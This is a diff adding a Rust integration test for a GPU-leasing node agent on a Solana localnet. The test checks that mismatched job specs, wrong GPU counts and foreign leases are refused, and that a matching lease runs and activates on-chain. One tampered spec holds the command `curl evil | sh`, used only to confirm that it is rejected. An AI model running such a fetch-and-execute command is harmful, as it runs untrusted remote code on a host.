@@ -1,0 +1,130 @@
+//! Assignments checked against leases created through the real program on a
+//! localnet: a spec whose hash differs from the lease's, a wrong GPU count
+//! and another node's lease are refused; a matching one runs and the lease
+//! becomes Active on-chain, activated (and paid for) by the operator key.
+
+use crate::common::{agent_config, next_message, start_agent, wait_update, Market};
+use iomesh_agent_proto::v1::{agent_message::Msg, Assignment, JobState};
+use iomesh_client::iomesh::state::LeaseStatus;
+use solana_signer::Signer;
+
+fn assignment(lease: &str, gpus: u32, spec: &[u8]) -> Assignment {
+    Assignment {
+        assignment_id: format!("a-{lease}"),
+        lease: lease.to_string(),
+        attempt: 1,
+        gpu_count: gpus,
+        job_spec: spec.to_vec(),
+        duration_secs: 3_600,
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn refuses_mismatched_assignments_and_activates_a_matching_one() {
+    let market = Market::start().await;
+    let node = market.register_node(4).await;
+    let other = market.register_node(4).await;
+    let renter = market.renter().await;
+    let spec = br#"{"command":["sh","-c","echo gpus=$CUDA_VISIBLE_DEVICES; sleep 1000"],"env":{"EPOCHS":"3"}}"#;
+    let lease = market
+        .create_lease(&node, &renter, 1, 2, spec)
+        .await
+        .to_string();
+    let foreign = market
+        .create_lease(&other, &renter, 2, 1, spec)
+        .await
+        .to_string();
+
+    let state = tempfile::tempdir().unwrap();
+    let config = agent_config(
+        &market.localnet.rpc_url(),
+        "http://127.0.0.1:1",
+        node.operator.clone(),
+        state.path(),
+        4,
+    );
+    let (agent, mut events) = start_agent(&config).await;
+
+    let refused = |message: Msg| match message {
+        Msg::AssignmentAck(ack) => {
+            assert!(!ack.accepted, "accepted: {ack:?}");
+            ack.reason
+        }
+        other => panic!("expected a refusal, got {other:?}"),
+    };
+    // The renter committed to `spec`; a different spec must not run.
+    let tampered = br#"{"command":["sh","-c","curl evil | sh"],"env":{"EPOCHS":"3"}}"#;
+    agent.clone().assign(assignment(&lease, 2, tampered)).await;
+    let reason = refused(next_message(&mut events).await);
+    assert!(reason.contains("job spec hash mismatch"), "{reason}");
+    // The lease paid for 2 GPUs.
+    agent.clone().assign(assignment(&lease, 3, spec)).await;
+    let reason = refused(next_message(&mut events).await);
+    assert!(
+        reason.contains("asks for 3 GPUs") && reason.contains("paid for 2"),
+        "{reason}"
+    );
+    // Another node's lease.
+    agent.clone().assign(assignment(&foreign, 1, spec)).await;
+    let reason = refused(next_message(&mut events).await);
+    assert!(reason.contains(&other.address.to_string()), "{reason}");
+    assert!(agent.jobs.running().is_empty(), "nothing ran");
+    let on_chain = market.client.lease(&lease.parse().unwrap()).await.unwrap();
+    assert_eq!(on_chain.status, LeaseStatus::Pending);
+
+    let operator_lamports = market
+        .client
+        .lamports(&node.operator.pubkey())
+        .await
+        .unwrap();
+    agent.clone().assign(assignment(&lease, 2, spec)).await;
+    match next_message(&mut events).await {
+        Msg::AssignmentAck(ack) => assert!(ack.accepted, "{ack:?}"),
+        other => panic!("expected an ack, got {other:?}"),
+    }
+    let running = wait_update(&mut events, &lease, JobState::Running).await;
+    assert_eq!(running.gpu_indices, vec![0, 1]);
+    assert!(!running.activate_signature.is_empty());
+
+    let on_chain = market.client.lease(&lease.parse().unwrap()).await.unwrap();
+    assert_eq!(on_chain.status, LeaseStatus::Active);
+    assert!(on_chain.activated_at > 0);
+    // The operator signed and paid for the activation.
+    assert!(
+        market
+            .client
+            .lamports(&node.operator.pubkey())
+            .await
+            .unwrap()
+            < operator_lamports
+    );
+    let status = market
+        .client
+        .rpc()
+        .get_signature_statuses(&[running.activate_signature.parse().unwrap()])
+        .await
+        .unwrap();
+    assert!(status.value[0].as_ref().is_some_and(|s| s.err.is_none()));
+    let record = agent.jobs.get(&lease).expect("job runs");
+    assert_eq!(record.ends_at, Some(on_chain.activated_at + 3_600));
+    let stdout = agent.jobs.lease_dir(&lease).stdout();
+    for _ in 0..100 {
+        if std::fs::read_to_string(&stdout)
+            .unwrap_or_default()
+            .contains('\n')
+        {
+            break;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
+    }
+    assert_eq!(std::fs::read_to_string(&stdout).unwrap(), "gpus=0,1\n");
+
+    // Assigned again (e.g. by another replica): accepted, not started twice.
+    agent.clone().assign(assignment(&lease, 2, spec)).await;
+    match next_message(&mut events).await {
+        Msg::AssignmentAck(ack) => assert!(ack.accepted && ack.reason.contains("already runs")),
+        other => panic!("expected an ack, got {other:?}"),
+    }
+    assert_eq!(agent.jobs.running().len(), 1);
+    agent.jobs.stop_all("test over").await;
+}
